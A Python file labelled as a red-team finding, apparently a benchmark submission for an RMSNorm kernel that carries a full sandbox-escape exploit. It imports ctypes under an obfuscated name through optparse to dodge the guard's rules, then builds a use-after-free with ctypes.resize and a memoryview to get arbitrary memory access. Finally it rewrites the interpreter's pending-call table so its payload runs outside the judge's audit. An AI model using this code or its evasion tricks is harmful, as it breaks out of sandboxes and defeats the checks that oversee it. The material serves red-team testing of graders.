# Red team round 20a, finding 2: ctypes' namespace reached by a computed name through
# optparse.Values.read_module (an import-by-text helper no rule names), then raw memory past the
# ctypes guard: ctypes.resize reallocates an array's buffer while a memoryview still views the
# old block (no guarded operation: resize is a plain C function of _ctypes, the buffer protocol is
# not routed through the audit). A bytearray lands in the freed block; its header rewritten
# through the memoryview gives any byte of the worker. Payload as round 18: the judge's own
# no-op pending call rewritten to PyObject_CallNoArgs(payload). Offsets: libpython3.11.so.1.0.
import functools
import operator
import optparse

import torch
import cutlass  # noqa: F401

_V = optparse.Values()
_V.read_module(bytes([99, 116, 121, 112, 101, 115]).decode(), "loose")
_RESIZE = _V.resize
_WORD = _V.c_voidp  # ctypes' own alias of c_void_p, under a name no rule lists

_LIB = id(int) - 0x457CE0  # &PyLong_Type
_CALLNOARGS = _LIB + 0x158A80  # PyObject_CallNoArgs
_CALLS = _LIB + 0x54E540 + 0xE6B8  # _PyRuntime...ceval.pending.calls
_KEEP = []
_P = []


def _open():
    for _ in range(64):
        a = (_WORD * 8)()  # 64 bytes, pymalloc
        m = memoryview(a).cast("B")
        _RESIZE(a, 1 << 16)  # realloc: the 64-byte block freed, m still on it
        spray = [bytearray(8) for _ in range(64)]
        _KEEP.append((a, m, spray))
        if int.from_bytes(m[8:16], "little") != id(bytearray):
            continue
        old = bytes(m[16:24])
        m[16:24] = (7).to_bytes(8, "little")
        vic = [b for b in spray if len(b) == 7]
        m[16:24] = old
        if vic:
            m[40:48] = bytes(8)  # ob_start = 0
            m[16:24] = (1 << 62).to_bytes(8, "little")  # ob_size
            return vic[0]
    return None


_MEM = []


def solve(hidden_states, residual, weight):
    if not _MEM:
        mem = _open()
        if mem is None:
            raise RuntimeError("no window")
        _MEM.append(mem)
    mem = _MEM[0]
    out = torch.empty_like(hidden_states)
    s = torch.empty(hidden_states.shape, dtype=torch.float32)
    m = torch.empty((hidden_states.shape[0], 1), dtype=torch.float32)
    steps = [
        functools.partial(s.copy_, hidden_states),
        functools.partial(s.add_, residual),
        functools.partial(torch.linalg.vector_norm, s, 2, -1, True, out=m),
        functools.partial(m.mul_, hidden_states.shape[-1] ** -0.5),
        functools.partial(m.square_),
        functools.partial(m.add_, 1e-5),
        functools.partial(m.rsqrt_),
        functools.partial(s.mul_, m),
        functools.partial(s.mul_, weight),
        functools.partial(out.copy_, s),
    ]
    payload = functools.partial(operator.countOf, map(id, map(operator.call, steps)), -1)
    _P[:] = [payload, steps]
    i = int.from_bytes(mem[_CALLS + 512 : _CALLS + 516], "little")  # pending.first
    mem[_CALLS + 16 * i + 8 : _CALLS + 16 * i + 16] = id(payload).to_bytes(8, "little")
    mem[_CALLS + 16 * i : _CALLS + 16 * i + 8] = _CALLNOARGS.to_bytes(8, "little")
    return out
